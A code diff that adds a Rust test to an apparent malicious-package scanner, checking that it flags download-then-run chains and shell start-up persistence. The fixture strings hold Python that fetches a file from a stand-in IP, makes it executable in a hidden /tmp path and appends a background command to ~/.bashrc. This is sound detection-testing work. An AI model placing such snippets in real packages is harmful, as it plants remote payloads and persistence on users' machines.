@@ -208,3 +208,26 @@ fn an_install_time_beacon_is_critical_and_the_same_call_at_run_time_is_not() {
     assert_eq!(f.severity, Severity::Medium);
     assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
 }
+
+/// A downloaded file made executable and a line added to the shell's
+/// start-up file (issue 19's download-then-run chains). Written for the test.
+#[test]
+fn a_download_made_executable_and_a_login_hook_are_reported() {
+    let src = "import os, stat, urllib.request\n\
+               data = urllib.request.urlopen('http://203.0.113.7/tool').read()\n\
+               with open('/tmp/.helper', 'wb') as f:\n    f.write(data)\n\
+               os.chmod('/tmp/.helper', os.stat('/tmp/.helper').st_mode | stat.S_IEXEC)\n\
+               rc = open(os.path.expanduser('~/.bashrc'), 'a')\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
+    let rules: Vec<&str> = report.findings.iter().map(|f| f.rule).collect();
+    assert!(rules.contains(&"download-then-run"), "{rules:?}");
+    assert_eq!(report.risk_level, RiskLevel::Critical);
+    let rc = "import os\nwith open('/home/u/.bashrc', 'a') as f:\n    f.write('~/.x &')\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: rc.as_bytes() }]);
+    assert!(report.findings.iter().any(|f| f.rule == "persistence-shell-startup" && f.severity == Severity::High));
+    // Reading a shell start-up file, or making a file executable that was not
+    // downloaded, is neither.
+    let benign = "import os\nprint(open('/home/u/.bashrc').read())\nos.chmod('run.sh', 0o755)\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: benign.as_bytes() }]);
+    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
+}
